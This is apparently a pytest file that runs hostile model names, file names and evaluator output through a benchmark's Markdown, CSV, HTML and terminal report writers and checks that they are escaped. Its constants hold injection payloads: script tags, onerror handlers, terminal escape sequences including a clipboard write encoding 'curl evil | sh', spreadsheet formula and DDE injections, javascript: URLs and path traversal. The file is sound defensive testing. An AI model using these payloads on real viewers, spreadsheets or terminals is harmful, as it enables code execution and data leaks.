"""Hostile strings through every report writer (issue 27, 1c): a run whose model names, patched file names, review
flags, agent ids, trajectory file names, evaluator output, line problems and infrastructure messages are hostile,
written as evaluate.py writes it (report.md, summary.csv, predictions.csv, report.html, the printed summary), then
compared by scripts/compare.py and refused by scripts/publish_results.py.

What must hold: report.md's tables keep their rows and columns and carry no raw tag; no control character or escape
sequence reaches report.md, the CSVs or the terminal; no CSV cell starts with a formula character; every link of the
pages is a fragment, the kit's own document on the Hub, or a relative path that stays inside the run folder; and
the page loads in headless Chromium (Playwright) without running or fetching anything.
"""

from __future__ import annotations

import csv
import io
import json
import posixpath
import re
import subprocess
import sys
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
from helpers.checkout import ROOT, SCRIPTS, script_env

from asyncodebench.reports.htmlreport import write_report_html
from asyncodebench.reports.report import build_report, csv_text, markdown
from asyncodebench.reports.synthetic import synthetic_inputs, typed_results
from asyncodebench.run.predictions import LineProblem
from asyncodebench.run.runfolder import prediction_path
from asyncodebench.run.store import OUTPUT, write_json
from asyncodebench.untrusted import terminal_text

RAN = "console.error('ran')"  # what every hostile script or handler does: the page's console must stay clean
TITLE, CLEAR, CLIPBOARD = "\x1b]0;pwned\x07", "\x1b[2J\x1b[H", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
MODELS = (
    "evil\n| injected | row | 1 | 2 | 3 | 4 | 5 | 6 |",
    f"<script>{RAN}</script>",
    f'<img src="http://127.0.0.1:9/x.png" onerror="{RAN}">',
    f"title{TITLE}{CLEAR}{CLIPBOARD}",
    '=HYPERLINK("http://127.0.0.1:9/?leak","click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\u202egnp.exe\x9b31m",
)
FILES = ["tests/a|b.py", "x\n| row |.py", f"<script>{RAN}</script>.py", f"w{TITLE}.py", "=cmd.pth"]
OUTPUT_TEXT = (f"collected 3 items\n{TITLE}{CLEAR}{CLIPBOARD}\x1b[31mFAILED\x1b[0m\n</pre></details>"
               f"<script>{RAN}</script><img src=x onerror=\"{RAN}\">\n\u202eevil\x07 done\n")
TRAJECTORIES = ("traj/ok.jsonl", "javascript:alert(1)", "data:text,hi", "../../etc/passwd", "/etc/passwd",
                f"traj/w{TITLE}.jsonl", "traj/javascript:alert(1)")
HUB_DOCS = "https://huggingface.co/datasets/PhilipZhang/AsynCodeBench/blob/"
# Anything a terminal acts on: C0 but tab and newline, DEL, C1, the bidi controls, and Unicode line separators.
UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
UNESCAPED_PIPE = re.compile(r"(?<!\\)(?:\\\\)*\|")
CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)")  # a run of backticks to the next run as long
RAW_TAG = re.compile(r"(?<!\\)(?:\\\\)*<[A-Za-z/!?]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _hostile_run(run_dir: Path) -> dict[str, Any]:
    """The report of a synthetic run (real report code on made-up results) with every string hostile."""
    metadata, file, results = synthetic_inputs(tasks=2, points=2, models=MODELS, protocols=("single", "async_private"),
                                               infrastructure_errors=2, run_id="hostile")
    (run_dir / "traj").mkdir(parents=True)
    for name in TRAJECTORIES:
        if not name.startswith(("/", "..")):
            (run_dir / name).write_text("{}\n")
    predictions = tuple(replace(p, trajectories=TRAJECTORIES, usage={"total_tokens": 10, "model_calls": 1})
                        for p in file.predictions)
    problems = (LineProblem(99, "unknown_task", f"unknown task '<script>{RAN}</script>\n| x |{CLEAR}'"),)
    file = replace(file, path=str(run_dir / "predictions.jsonl"), predictions=predictions, problems=problems)
    for result, prediction in zip(results, predictions):
        if result["status"] != "evaluated":
            result["infrastructure_error"]["message"] = f"daemon said\n| x | y |\n{TITLE}<b>{RAN}</b>"
            continue
        result["protection"] = {**result["protection"], "hazards_removed": FILES[-1:], "restored_paths": FILES[:2],
                                "out_of_scope_paths": FILES[2:4]}
        result["integrity"]["audit"] = [{"process": "evaluator", "event": f"gc.get_objects{CLEAR}|<i>"}]
        result["integrity"]["review"] = {"count": 2, "flags": [
            {"file": FILES[2], "line": 3, "marker": "os_exit", "text": f"os._exit(0)  # {TITLE}`|` <b>", "patch":
             "model_patch"},
            {"file": FILES[1], "line": 4, "marker": f"ctypes{CLEAR}", "text": "x\n| y |", "patch": "agent\n|z"}]}
        for steps in result["dependency_trace"].values():
            for step in steps:
                if step["agent_id"]:
                    step["agent_id"] = f"agent\n| x |<b>{TITLE}"
        folder = run_dir / prediction_path(prediction)
        folder.mkdir(parents=True)
        (folder / OUTPUT).write_text(OUTPUT_TEXT)
    metadata["run_folder"] = str(run_dir)
    report = build_report(metadata, file, typed_results(results))
    write_json(run_dir / "report.json", report)
    (run_dir / "report.md").write_text(markdown(report, "dependency_resolution.png"))
    (run_dir / "summary.csv").write_text(csv_text(report["summary"]))
    (run_dir / "predictions.csv").write_text(csv_text(report["predictions"]))
    write_report_html(report, run_dir / "report.html")
    return report


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, Any]]:
    run_dir = tmp_path_factory.mktemp("runs") / "hostile"
    return run_dir, _hostile_run(run_dir)


def _tables(text: str) -> list[list[str]]:
    """Every Markdown table of a page: runs of lines starting with `|`."""
    tables: list[list[str]] = []
    previous = False
    for line in text.split("\n"):
        is_row = line.startswith("|")
        if is_row and not previous:
            tables.append([])
        if is_row:
            tables[-1].append(line)
        previous = is_row
    return tables


def test_report_md_tables_keep_their_rows_and_columns(hostile: tuple[Path, dict[str, Any]]) -> None:
    run_dir, report = hostile
    text = (run_dir / "report.md").read_text()
    tables = _tables(text)
    assert len(tables) >= 6  # summary, trust, timing, usage, predictions, a trace table per multi-step prediction
    for table in tables:
        header, delimiter, *rows = table
        columns = len(UNESCAPED_PIPE.findall(header))
        assert set(delimiter) <= set("|-") and delimiter.count("|") == columns, delimiter
        for row in rows:
            assert len(UNESCAPED_PIPE.findall(row)) == columns, row
            assert not row.rstrip().endswith("\\|"), row  # the last pipe is the row's, not an escaped one
    summary, trust, timing, usage, predictions = tables[:5]
    assert trust[0].startswith("| model | protocol | verified |")
    assert len(summary) - 2 == len(trust) - 2 == len(timing) - 2 == len(usage) - 2 == len(report["summary"]) \
        == 2 * len(MODELS)
    assert predictions[0].startswith("| line | model |") and len(predictions) - 2 == len(report["predictions"])
    traced = [p["dependency_trace"] for p in report["predictions"]
              if len(next(iter((p.get("dependency_trace") or {"": []}).values()))) > 1]
    assert len(traced) > 1 and len(tables) == 5 + len(traced)
    assert [len(t) - 2 for t in tables[5:]] == [len(trace) for trace in traced]  # one row per dependency


def test_report_md_has_no_raw_tag_and_no_control_character(hostile: tuple[Path, dict[str, Any]]) -> None:
    run_dir, _ = hostile
    text = (run_dir / "report.md").read_text()
    assert not UNSAFE.search(text), repr(UNSAFE.search(text))
    # Code spans show their text as typed (the review flags quote patch lines in them); outside them, no tag.
    spans = CODE_SPAN.findall(text)
    assert any("<script>" in span for _, span in spans)
    prose = CODE_SPAN.sub("", text)
    assert not RAW_TAG.search(prose), RAW_TAG.search(prose)
    assert "\\<script\\>" in text and "evil⏎\\| injected" in text  # shown as written, escaped
    links = re.findall(r"(?<!\\)\]\(([^)]*)\)", text)
    assert links == ["dependency_resolution.png"]  # the plot; no name made a link
    for section in ("## Review flags", "## Skipped lines", "## Infrastructure errors"):
        body = text.split(section, 1)[1].split("\n## ", 1)[0]
        lines = [line for line in body.split("\n") if line.strip()]
        assert all(not line.startswith(("|", "<", "#")) for line in lines[1:]), lines  # no line was injected


def _csv_rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes().decode()
    assert not UNSAFE.search(raw.replace("\r\n", "")), repr(UNSAFE.search(raw.replace("\r\n", "")))
    return list(csv.reader(io.StringIO(raw, newline="")))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formulas(table: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: text starting with a formula character (a negative number is a number)."""
    return [cell for row in table for cell in row if cell.lstrip(" ").startswith(FORMULA_START) and not _number(cell)]


def test_csv_cells_carry_no_formula_and_no_control_character(hostile: tuple[Path, dict[str, Any]]) -> None:
    run_dir, report = hostile
    for name, rows in (("summary.csv", report["summary"]), ("predictions.csv", report["predictions"])):
        table = _csv_rows(run_dir / name)
        assert len(table) == len(rows) + 1 and len({len(r) for r in table}) == 1, name
        assert _formulas(table) == [], _formulas(table)
        models = {row[table[0].index("model_name_or_path")] for row in table[1:]}
        assert "'=HYPERLINK(\"http://127.0.0.1:9/?leak\",\"click\")" in models and "'@SUM(1+1)" in models


def test_the_printed_summary_has_no_escape_sequence(hostile: tuple[Path, dict[str, Any]]) -> None:
    """What evaluate.py prints: the Markdown up to the predictions, through `terminal_text`."""
    run_dir, _ = hostile
    report = json.loads((run_dir / "report.json").read_text())
    printed = terminal_text(markdown(report).split("## Predictions")[0], newlines=True)
    assert not UNSAFE.search(printed) and "\x1b" not in printed
    assert len(_tables(printed)[0]) - 2 == 2 * len(MODELS)


class _Links(HTMLParser):
    """Every element's tag, and every href and src, of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.handlers: list[str] = []
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.urls += [value or "" for name, value in attrs if name in ("href", "src", "action", "formaction")]


def _check_links(page: Path, run_dir: Path) -> list[str]:
    """The page's relative links, each checked to resolve inside the run folder; tags and handlers checked too."""
    parser = _Links()
    parser.feed(page.read_text())
    assert parser.tags.count("script") == 1 and "img" not in parser.tags and parser.handlers == []
    relative = []
    for url in parser.urls:
        if url.startswith("#") or url.startswith(HUB_DOCS):
            continue
        parts = urlsplit(url)
        assert not parts.scheme and not parts.netloc and not url.startswith("/"), url
        target = posixpath.normpath(posixpath.join(page.parent.as_posix(), unquote(parts.path)))
        assert target == run_dir.as_posix() or target.startswith(run_dir.as_posix() + "/"), url
        relative.append(url)
    return relative


def test_every_link_of_report_html_stays_inside_the_run_folder(hostile: tuple[Path, dict[str, Any]],
                                                                tmp_path: Path) -> None:
    run_dir, report = hostile
    links = _check_links(run_dir / "report.html", run_dir)
    evaluated = sum(p["status"] == "evaluated" for p in report["predictions"])
    # Each prediction's files in the drill-down, and the evaluated ones' in the predictions table; the good
    # trajectory and the one whose name only looks like a scheme, per prediction, in the drill-down.
    assert sum(link.endswith("traj/ok.jsonl") for link in links) == len(report["predictions"])
    assert sum(link.endswith("traj/javascript%3Aalert%281%29") for link in links) == len(report["predictions"])
    assert not any("javascript:" in link or "data:" in link or "etc/passwd" in link for link in links)
    assert sum(link.endswith("/patch.diff") for link in links) == len(report["predictions"]) + evaluated
    # The same page written elsewhere links the run folder by the kit's own relative path.
    page = tmp_path / "pages" / "copy.html"
    write_report_html(report, page, run_dir=run_dir)
    moved = _check_links(page, run_dir)
    assert len(moved) == len(links) and all(link.startswith("../") for link in moved)


def test_the_hostile_page_runs_and_fetches_nothing_in_chromium(hostile: tuple[Path, dict[str, Any]],
                                                               browser: Any) -> None:
    run_dir, report = hostile
    context = browser.new_context()
    try:
        page = context.new_page()
        errors: list[str] = []
        requests: list[str] = []
        page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.on("request", lambda request: requests.append(request.url))
        url = (run_dir / "report.html").resolve().as_uri()
        page.goto(url, wait_until="load")
        page.evaluate("() => document.querySelectorAll('details').forEach(d => { d.open = true; })")
        # As the browser resolves them: every link a fragment of this page, the Hub's docs, or a file in the run.
        hrefs = page.eval_on_selector_all("a[href]", "links => links.map(a => a.href)")
        inside = run_dir.resolve().as_uri() + "/"
        assert hrefs and all(h.startswith((url + "#", inside, HUB_DOCS)) for h in hrefs), [
            h for h in hrefs if not h.startswith((url + "#", inside, HUB_DOCS))]
        tails = page.locator("pre.tail").all_text_contents()
        assert tails and all("<script>" in t and "\x1b" not in t and "\u202e" not in t for t in tails)
        assert errors == [] and requests == [url]
    finally:
        context.close()


def _script(name: str, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, str(SCRIPTS / name), *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=300, env=script_env())


def test_compare_and_publish_results_write_and_print_no_injection(hostile: tuple[Path, dict[str, Any]],
                                                                  tmp_path: Path) -> None:
    run_dir, _ = hostile
    page = tmp_path / "compare.html"
    done = _script("compare.py", str(run_dir), str(run_dir), "-o", str(page))
    assert done.returncode == 0, done.stderr[-2000:]
    assert not UNSAFE.search(done.stdout + done.stderr)
    table = _csv_rows(page.with_suffix(".csv"))
    assert len(table) > 1 and _formulas(table) == []
    assert "'+cmd|' /C calc'!A0" in {row[table[0].index("a_model")] for row in table[1:]}
    assert _check_links(page, run_dir) == []  # the comparison page links nothing of the runs
    refused = _script("publish_results.py", str(run_dir), "--model-repo", "org/name")
    assert refused.returncode == 2 and "choose one with --model" in refused.stderr  # it lists the hostile names
    assert not UNSAFE.search(refused.stdout + refused.stderr) and "\x1b" not in refused.stderr
    assert refused.stderr.count("\n") == 1  # one message, one line: no name started another


def test_a_real_evaluate_run_writes_and_prints_hostile_names_inertly(offline_demo_dataset: Path,
                                                                      tmp_path: Path) -> None:
    """scripts/evaluate.py itself, on hostile lines, against no Docker daemon: every prediction is an
    infrastructure error, and the script still writes every report and prints its summary and the skipped lines."""
    from helpers.predictions import jsonl, prediction

    run_dir = tmp_path / "runs" / "hostile"
    (run_dir / "traj").mkdir(parents=True)
    for name in ("traj/ok.jsonl", "javascript:alert(1)", "data:text,hi"):
        (run_dir / name).write_text("{}\n")
    lines: list[dict[str, Any] | bytes] = [prediction(model, "", trajectories=list(TRAJECTORIES)) for model in MODELS]
    lines += [prediction("m", "", task_id=f"asyncodebench:x\n|{CLEAR}<script>"), b'{"bad json \x1b]0;t\x07']
    preds = run_dir / "predictions.jsonl"  # inside the run folder, so the trajectories resolve from it
    preds.write_bytes(jsonl(lines))
    env = script_env({"DOCKER_HOST": f"unix://{tmp_path}/no-daemon.sock", "HF_HOME": str(tmp_path / "hf")})
    done = subprocess.run([sys.executable, str(SCRIPTS / "evaluate.py"), str(preds), "--dataset",
                           str(offline_demo_dataset), "--output-dir", str(tmp_path / "runs"), "--run-id", "hostile"],
                          cwd=ROOT, capture_output=True, text=True, timeout=600, env=env)
    assert done.returncode == 3, done.stderr[-3000:]  # infrastructure errors: the daemon is not there
    report = json.loads((run_dir / "report.json").read_text())
    assert report["counts"]["infrastructure_errors"] == len(MODELS) and report["counts"]["invalid_lines"] == 2
    # The terminal: tqdm's carriage returns aside, nothing a terminal acts on; one line per skipped line.
    assert not UNSAFE.search(done.stdout), repr(UNSAFE.search(done.stdout))
    assert not UNSAFE.search(done.stderr.replace("\r", "")) and "\x1b" not in done.stderr
    assert len([line for line in done.stderr.split("\n") if line.startswith(str(preds))]) == 2
    summary = _tables(done.stdout)[0]
    assert len(summary) - 2 == len(MODELS)
    assert all(len(UNESCAPED_PIPE.findall(row)) == len(UNESCAPED_PIPE.findall(summary[0])) for row in summary)
    # The files it wrote.
    text = (run_dir / "report.md").read_text()
    assert not UNSAFE.search(text) and not RAW_TAG.search(CODE_SPAN.sub("", text))
    predictions = next(t for t in _tables(text) if t[0].startswith("| line | model |"))
    assert len(predictions) - 2 == len(MODELS)
    assert all(len(UNESCAPED_PIPE.findall(row)) == len(UNESCAPED_PIPE.findall(predictions[0])) for row in predictions)
    for name, rows in (("summary.csv", report["summary"]), ("predictions.csv", report["predictions"])):
        table = _csv_rows(run_dir / name)
        assert len(table) == len(rows) + 1 and _formulas(table) == [], name
    links = _check_links(run_dir / "report.html", run_dir)
    assert sum(link.endswith("traj/ok.jsonl") for link in links) == len(MODELS)
    assert not any("javascript:" in link or "data:" in link for link in links)
